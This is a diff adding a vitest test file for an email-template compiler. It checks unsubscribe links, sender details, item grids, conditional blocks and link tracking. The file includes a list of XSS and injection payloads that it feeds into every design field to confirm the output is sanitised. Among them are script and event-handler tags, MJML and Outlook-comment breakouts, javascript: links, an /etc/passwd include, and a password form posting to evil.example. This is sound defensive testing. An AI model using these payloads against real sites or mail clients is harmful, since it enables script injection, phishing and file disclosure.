@@ -1,0 +1,219 @@
+import sanitizeHtml from 'sanitize-html';
+import { describe, expect, it } from 'vitest';
+import { locales } from '#contracts/locale.ts';
+import { testConfig } from '#testing/config.ts';
+import {
+  designDocument,
+  sameWords,
+  type BlockOf,
+  type DesignBlock,
+  type DesignDocument,
+} from '../../domain/design-document.ts';
+import { fillLetter, type LetterRecipient } from '../../domain/letter.ts';
+import { letterMark } from '../../domain/letter-marks.ts';
+import { compileDesign } from './compile-design.ts';
+import { demoDesigns } from '../seed/demo-designs.ts';
+import { frameOf } from './letter-frame.ts';
+
+const config = { ...testConfig(), PUBLIC_URL: 'https://swapu.example' };
+const frame = frameOf(config, 'en-US');
+const letterWith = (blocks: readonly DesignBlock[], subject = 'Hello'): DesignDocument => ({
+  subject: sameWords(subject),
+  preview: sameWords(''),
+  blocks: [...blocks],
+});
+const text = (words: string): BlockOf<'text'> => ({
+  kind: 'text',
+  size: 'body',
+  align: 'left',
+  words: sameWords(words),
+});
+
+const recipient: LetterRecipient = {
+  firstName: 'Mia',
+  facts: { hasItems: true, suburb: 'Fitzroy', itemsListed: 3 },
+  coupon: 'MATE-1',
+  items: ['Lamp', 'Tent', 'Kayak'].map((title) => ({
+    title,
+    url: `https://swapu.example/item/${title}`,
+    pictureUrl: title === 'Tent' ? null : `https://swapu.example/${title}.jpg`,
+    place: 'Fitzroy, VIC',
+  })),
+  unsubscribeUrl: 'https://swapu.example/email-subscription?token=T',
+  link: (url) => `https://swapu.example/go?to=${encodeURIComponent(url)}`,
+  openUrl: 'https://swapu.example/open/1',
+};
+async function filled(document: DesignDocument, changed: Partial<LetterRecipient> = {}) {
+  const compiled = await compileDesign(document, frame);
+  return fillLetter({ designId: '', version: 1, language: 'en-US', ...compiled }, { ...recipient, ...changed });
+}
+
+interface Element {
+  readonly tag: string;
+  readonly attributes: Readonly<Record<string, string>>;
+}
+
+/** Every element of a page as a parser of HTML reads it. */
+function elementsOf(html: string): Element[] {
+  const elements: Element[] = [];
+  sanitizeHtml(html, {
+    allowedTags: false,
+    allowedAttributes: false,
+    allowVulnerableTags: true,
+    transformTags: {
+      '*': (tagName, attribs) => {
+        elements.push({ tag: tagName, attributes: attribs });
+        return { tagName, attribs };
+      },
+    },
+  });
+  return elements;
+}
+const linksOf = (html: string) =>
+  elementsOf(html).flatMap(({ tag, attributes }) => (tag === 'a' ? [attributes['href']] : []));
+const wordsOf = (html: string) => sanitizeHtml(html, { allowedTags: [] });
+
+describe('a compiled letter', () => {
+  it.each(demoDesigns.flatMap(({ name, document }) => locales.map((language) => [name, language, document] as const)))(
+    '"%s" in %s stays as it was looked at',
+    async (name, language, document) => {
+      const compiled = await compileDesign(document, frameOf(config, language));
+      const readable = [compiled.subject, compiled.html, compiled.text, JSON.stringify(compiled.needs)]
+        .join('\n\n')
+        .replaceAll('\u{E000}', '⟦')
+        .replaceAll('\u{E001}', '⟧');
+      await expect(readable).toMatchFileSnapshot(
+        `./compiled/${name.toLowerCase().replaceAll(' ', '-')}.${language}.txt`,
+      );
+    },
+  );
+
+  it('always says how to stop it, and who sent it with their ABN', async () => {
+    for (const blocks of [[], [text('Hi')]]) {
+      const { html, text: plain } = await filled(letterWith(blocks));
+      expect(html).toContain('href="https://swapu.example/email-subscription?token=T"');
+      for (const part of [html, plain]) expect(part).toMatch(/ABN 00 000 000 000, 1 Market Lane/);
+      expect(plain).toContain(recipient.unsubscribeUrl);
+    }
+  });
+
+  it('shows as many items as the recipient gets', async () => {
+    const grid = letterWith([{ kind: 'grid', count: 4 }]);
+    const shown = async (items: LetterRecipient['items']) => {
+      const words = wordsOf((await filled(grid, { items })).html);
+      return ['Lamp', 'Tent', 'Kayak'].filter((title) => words.includes(title));
+    };
+    expect(await shown(recipient.items)).toEqual(['Lamp', 'Tent', 'Kayak']);
+    expect(await shown([])).toEqual([]);
+  });
+
+  it('leaves a part out for those it is not for, in text too', async () => {
+    const part = (isNegated: boolean): DesignBlock => ({
+      kind: 'condition',
+      when: 'hasItems',
+      isNegated,
+      blocks: [text(isNegated ? 'List your first' : 'Your items')],
+    });
+    const letter = letterWith([part(false), part(true)]);
+    for (const [facts, words] of [
+      [{ hasItems: true }, 'Your items'],
+      [{}, 'List your first'],
+    ] as const) {
+      const { html, text: plain } = await filled(letter, { facts });
+      const page = wordsOf(html);
+      for (const each of ['Your items', 'List your first'])
+        expect([page.includes(each), plain.includes(each)]).toEqual([each === words, each === words]);
+    }
+  });
+
+  it('counts clicks on links, and never the one that unsubscribes', async () => {
+    const { html } = await filled(letterWith([text('[Look](/search?q=a&b) [mail](mailto:a@b.example)')]));
+    const links = linksOf(html);
+    expect(links).toContain(`https://swapu.example/go?to=${encodeURIComponent('https://swapu.example/search?q=a&b')}`);
+    expect(links).toContain(recipient.unsubscribeUrl);
+    expect(links.filter((link) => link?.includes('email-subscription'))).toEqual([recipient.unsubscribeUrl]);
+  });
+});
+
+/** What people put into fields to make a mail or its editor run script, load a thing, or break out of its place. */
+const hostile = [
+  '<script>run()</script>',
+  '<img src=x onerror=run()>',
+  '"><svg onload=run()>',
+  '</mj-text><mj-raw><script>run()</script></mj-raw><mj-text>',
+  '<mj-include path="/etc/passwd" />',
+  ']]></mj-text><script>run()</script><![CDATA[',
+  '<![endif]--><script>run()</script><!--',
+  '<!--[if mso]><script>run()</script><![endif]-->',
+  '<style>@import url(https://evil.example)</style>',
+  '<iframe srcdoc="<script>run()</script>">',
+  '<form action="https://evil.example"><input name=password>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '[x](javascript:run())',
+  '[x](JaVaScRiPt:run())',
+  '[x](java\tscript:run())',
+  '[x](data:text/html,<script>run()</script>)',
+  '[x](vbscript:run())',
+  '[x](//evil.example)',
+  '[x](/\\evil.example)',
+  '[x](https://a.example/"onmouseover="run())',
+  "[x](https://a.example/'onmouseover='run())",
+  '**<b onclick=run()>x</b>**',
+  '{{firstName|<script>run()</script>}}',
+  '{{__proto__|x}}',
+  letterMark('if', 'never'),
+  letterMark('end'),
+  letterMark('link', 'javascript:run()'),
+  '\u{E002}0\u{E003}',
+  '&lt;script&gt;run()&lt;/script&gt;',
+  '\u0000<script>run()</script>',
+  '\u202e<script>',
+];
+
+const everywhere = (words: string): DesignBlock[] => [
+  text(words),
+  { kind: 'picture', path: '/files/public/a.jpg', alt: sameWords(words), link: words.slice(0, 1_000), width: 'whole' },
+  { kind: 'button', align: 'center', words: sameWords(words.slice(0, 80)), link: words },
+  { kind: 'coupon', source: 'shared', code: words.slice(0, 40), words: sameWords(words) },
+  { kind: 'unsubscribe', align: 'left', words: sameWords(words.slice(0, 80)) },
+  {
+    kind: 'columns',
+    left: [text(words)],
+    right: [{ kind: 'button', align: 'left', words: sameWords(words.slice(0, 80)), link: words }],
+  },
+  { kind: 'condition', when: 'hasItems', isNegated: false, blocks: [text(words)] },
+];
+
+const allowedTags = /^(html|head|body|title|meta|style|div|table|tbody|tr|td|th|p|a|img|strong|em|br)$/;
+
+describe('hostile text in a design', () => {
+  it.each(hostile)('%j compiles to nothing that runs, loads or leaves its place', async (words) => {
+    const { html, subject } = await filled(
+      { ...letterWith(everywhere(words), words.slice(0, 150)), preview: sameWords(words.slice(0, 150)) },
+      { firstName: words },
+    );
+    for (const { tag, attributes } of elementsOf(html)) {
+      expect(tag).toMatch(allowedTags);
+      for (const [name, value] of Object.entries(attributes)) {
+        expect(name).not.toMatch(/^(on|srcdoc|action|formaction)/);
+        if (name === 'http-equiv') expect(value).toMatch(/^(x-ua-compatible|content-type)$/i);
+        if (name === 'href' || name === 'src') expect(value).toMatch(/^https:\/\/swapu\.example\//);
+      }
+    }
+    expect(html.match(/<style[\s\S]*?<\/style>/g)?.join('')).not.toMatch(/evil|@import/);
+    // Outlook reads what stands in comments.
+    expect(html.match(/<!--\[if[\s\S]*?<!\[endif\]-->/g)?.join('') ?? '').not.toMatch(/<script|run\(|evil/);
+    expect(subject).not.toMatch(/[\r\n]/);
+    expect(linksOf(html)).toContain(recipient.unsubscribeUrl);
+  });
+
+  it('is refused as a picture of another host, and as a block of another kind', () => {
+    const isDesign = (block: unknown) => designDocument.safeParse({ ...letterWith([]), blocks: [block] }).success;
+    const picture = { kind: 'picture', alt: sameWords(''), link: '', width: 'whole' };
+    expect(isDesign({ ...picture, path: '/files/public/images/a.jpg' })).toBe(true);
+    for (const path of ['https://evil.example/a.jpg', '//evil.example/a', '/files/public/"onerror="run()', 'data:x'])
+      expect(isDesign({ ...picture, path })).toBe(false);
+    for (const kind of ['raw', 'html', 'script', '__proto__']) expect(isDesign({ kind, words: 'x' })).toBe(false);
+  });
+});
